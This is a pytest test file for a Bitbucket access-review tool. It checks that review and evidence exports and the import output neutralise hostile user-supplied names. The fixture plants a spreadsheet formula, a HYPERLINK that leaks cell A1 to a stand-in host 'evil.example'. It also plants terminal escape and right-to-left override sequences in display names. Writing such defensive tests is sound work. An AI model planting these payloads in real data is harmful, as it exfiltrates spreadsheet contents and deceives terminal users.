"""Names anyone can type in Bitbucket reach spreadsheets and terminals as inert text."""

from __future__ import annotations

import csv
import os
import subprocess

import pytest
from openpyxl import load_workbook

from bitbucket_simulator import Simulator, SimulatorServer, load_organisation
from tests.support import CLI
from tests.support.warehouses import built_in_the_workers_dir, run_pipeline

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
ESCAPES = "Ana\x1b[31m\u202eEvil\x07"


@pytest.fixture(scope="module")
def hostile_warehouse(tmp_path_factory) -> str:
    org = load_organisation("tiny")
    users = {u.nickname: u for u in org.users.values()}
    users["zoe"].display_name = FORMULA
    users["ana"].display_name = ESCAPES
    org.workspaces["tiny-co"].groups["leads"].name = "Leads\x01\x02"
    keep = tmp_path_factory.mktemp("hostile") / "w.duckdb"
    with SimulatorServer(Simulator(org)) as server, built_in_the_workers_dir(tmp_path_factory, keep) as db:
        assert run_pipeline(server.url, org.users[org.operator_uuid].email, db).success
    return str(keep)


def cli(db: str, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "DUCKDB_PATH": db}
    return subprocess.run([CLI, *args], capture_output=True, text=True, env=env, timeout=300)


def test_review_csv_and_xlsx_hold_no_formula_and_no_illegal_character(hostile_warehouse, tmp_path) -> None:
    out_csv, out_xlsx = tmp_path / "review.csv", tmp_path / "review.xlsx"
    assert (
        cli(
            hostile_warehouse,
            "review",
            "export",
            "--as-of",
            "2099-01-01",
            "--format",
            "csv",
            "--out",
            str(out_csv),
        ).returncode
        == 0
    )
    done = cli(
        hostile_warehouse,
        "review",
        "export",
        "--as-of",
        "2099-01-01",
        "--format",
        "xlsx",
        "--out",
        str(out_xlsx),
    )
    assert done.returncode == 0, done.stderr[-800:]
    rows = list(csv.DictReader(out_csv.open(encoding="utf-8")))
    names = {r["user_display_name"] for r in rows}
    assert "'" + FORMULA in names and FORMULA not in names
    sheet = load_workbook(out_xlsx).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert cells and all(c.data_type == "s" for c in cells if c.value is not None)
    values = {c.value for c in cells}
    assert "'" + FORMULA in values and "Leads" in values  # the group name lost its control characters
    assert not any(isinstance(v, str) and ("\x01" in v or "\x07" in v) for v in values)


def test_evidence_csvs_are_neutralised(hostile_warehouse, tmp_path) -> None:
    done = cli(
        hostile_warehouse, "evidence", "--from", "2000-01-01", "--to", "2099-01-01", "--out", str(tmp_path)
    )
    assert done.returncode == 0, done.stderr[-800:]
    for name in ("population", "changes", "risks"):
        for row in csv.reader((tmp_path / f"{name}.csv").open(encoding="utf-8")):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), (name, row)
    population = list(csv.DictReader((tmp_path / "population.csv").open(encoding="utf-8")))
    assert "'" + FORMULA in {r["user_display_name"] for r in population}


def test_review_import_output_escapes_control_characters(hostile_warehouse, tmp_path) -> None:
    review = tmp_path / "review.csv"
    assert (
        cli(
            hostile_warehouse,
            "review",
            "export",
            "--as-of",
            "2099-01-01",
            "--format",
            "csv",
            "--out",
            str(review),
        ).returncode
        == 0
    )
    rows = list(csv.DictReader(review.open(encoding="utf-8")))
    for row in rows:
        if row["user_display_name"] == ESCAPES and row["resource_key"] == "payments-api":
            row.update(reviewer="olga@tiny.example", decision="revoke")
    with review.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    done = cli(hostile_warehouse, "review", "import", str(review))
    assert done.returncode == 0, done.stderr[-800:]
    assert "Ana\\x1b[31m\\u202eEvil\\x07" in done.stdout  # shown, not obeyed
    assert "\x1b" not in done.stdout and "\u202e" not in done.stdout and "\x07" not in done.stdout
